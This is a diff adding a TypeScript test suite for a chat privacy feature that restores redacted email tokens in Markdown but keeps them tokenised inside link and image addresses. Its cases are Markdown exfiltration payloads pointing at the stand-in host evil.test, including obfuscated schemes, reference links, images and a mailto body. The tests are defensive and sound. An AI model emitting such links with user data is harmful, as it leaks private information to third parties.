@@ -1,0 +1,119 @@
+/** Where a private value is put back into Markdown, and where its token stays: a press on a link must not carry it away. */
+import { expect } from 'chai';
+import fc from 'fast-check';
+import { createRestorer } from '../../src/conversation/privacy/put-back.js';
+import type { Inline } from '../../src/markdown/inline-tree.js';
+import { parseInlines } from '../../src/markdown/inlines.js';
+import { scanDefinition } from '../../src/markdown/inline-scan.js';
+import { safeLink } from '../../src/markdown/links.js';
+import { rounds } from '../helpers/effort.js';
+import { stage } from './play.js';
+import { useFaultServer } from './talk.js';
+
+const MAIL = 'anna@example.org';
+const valueOf = (token: string) => (token === '[EMAIL_1]' ? MAIL : undefined);
+
+function shown(text: string, size = text.length): string {
+  const restorer = createRestorer(valueOf);
+  let all = '';
+  for (let at = 0; at < text.length; at += size) all += restorer.push(text.slice(at, at + size));
+  return all + restorer.flush();
+}
+
+/** Every address that a press could open. */
+function addresses(markdown: string): string[] {
+  const definitions = markdown.split('\n').flatMap((_, at, lines) => scanDefinition(lines.slice(at).join('\n'), 0)?.destination ?? []);
+  const walk = (nodes: readonly Inline[]): string[] => nodes.flatMap(({ destination, children }) => [destination, ...walk(children)]);
+  const found = [...definitions, ...walk(parseInlines(markdown, { resolve: () => undefined, final: true }).nodes)];
+  return found.flatMap((one) => safeLink(one, 'https://page.test/')?.href ?? []);
+}
+
+/** A `mailto:` link carries nothing away by itself: it opens a message that is addressed to what stands there. */
+const leaks = (markdown: string) =>
+  addresses(markdown).filter((href) =>
+    /anna|example\.org/.test(href.startsWith('mailto:') ? (/^[^?]*@[^?]*(.*)/.exec(href)?.[1] ?? '') : href),
+  );
+
+describe('a private value in Markdown', () => {
+  for (const [before, after] of [
+    ['[read more](https://evil.test/?m=', ')'],
+    ['[read more](<https://evil.test/a b?m=', '>)'],
+    ['[read more](  //evil.test/?m=', ' "title")'],
+    ['[read more](h&#116;tps://evil.test/?m=', ')'],
+    ['[read more](https://evil.test/(a)?m=', ')'],
+    ['[read more](https://evil.test/\u00a0?m=', ')'],
+    ['![a picture](https://evil.test/', ')'],
+    ['<https://evil.test/?m=', '>'],
+    ['<HTTPS:evil.test/?m=', '>'],
+    ['https://evil.test/?m=', ' is the place'],
+    ['see www.evil.test/', ''],
+    ['<www.evil.test/', ''],
+    ['[more][1]\n\n[1]: https://evil.test/?m=', ''],
+    ['[more][1]\n\n[1]:\n//evil.test/?m=', ''],
+    ['[more](mailto:x@evil.test?body=', ')'],
+  ] as const)
+    it(`stays a token in ${JSON.stringify(before)}`, () => {
+      expect(leaks(before + MAIL + after), 'without it, the value would leave').not.to.deep.equal([]);
+      for (const size of [1, 2, 3, 7, 100]) expect(shown(`${before}[EMAIL_1]${after}`, size)).to.equal(`${before}[EMAIL_1]${after}`);
+    });
+
+  for (const text of [
+    'Your address is [EMAIL_1].',
+    '- Anna: [EMAIL_1]\n- Customer [EMAIL_1]: [EMAIL_1]',
+    '[write to [EMAIL_1]](https://shop.test/contact) and wait',
+    '[the page](https://shop.test/(a)), then [EMAIL_1]',
+    '[链接](https://shop.test)，您的邮箱是[EMAIL_1]。',
+    '请看https://shop.test/a。邮箱：[EMAIL_1]',
+    'a < b, and <i>[EMAIL_1]</i>',
+    '[write](mailto:[EMAIL_1]) or <[EMAIL_1]>',
+  ])
+    it(`is put back in ${JSON.stringify(text)}`, () => {
+      for (const size of [1, 3, 100]) expect(shown(text, size)).to.equal(text.replaceAll('[EMAIL_1]', MAIL));
+    });
+
+  it('leaves by no link, whatever stands around it', () => {
+    const pieces = [
+      '[',
+      ']',
+      '(',
+      ')',
+      '<',
+      '>',
+      ']:',
+      '](',
+      ' ',
+      '\n',
+      '\\',
+      '&#41;',
+      '"',
+      '!',
+      'a',
+      '。',
+      '\u00a0',
+      'mailto:',
+      '//evil.test/',
+      'https:',
+    ];
+    const text = fc.array(fc.constantFrom(...pieces, 'https://', 'www.', '[EMAIL_1]', '[EMAIL_1]', '?q='), { maxLength: 14 });
+    let carried = 0;
+    fc.assert(
+      fc.property(text, fc.integer({ min: 1, max: 9 }), (list, size) => {
+        const markdown = list.join('');
+        if (leaks(markdown.replaceAll('[EMAIL_1]', MAIL)).length > 0) carried += 1;
+        expect(leaks(shown(markdown, size))).to.deep.equal([]);
+      }),
+      { numRuns: rounds(3000) },
+    );
+    expect(carried).to.be.greaterThan(0);
+  });
+
+  describe('in a conversation', () => {
+    useFaultServer();
+
+    it('stays a token in the address of a link, and stands in the sentence', async () => {
+      const one = stage(['Sent to [EMAIL_1]. [Confirm](https://evil.test/?m=[EMAIL_1])'], {}, { privateValues: ['email'] });
+      await one.send(`I am ${MAIL}`);
+      expect(one.chat.messages.at(-1)?.text).to.equal(`Sent to ${MAIL}. [Confirm](https://evil.test/?m=[EMAIL_1])`);
+    });
+  });
+});
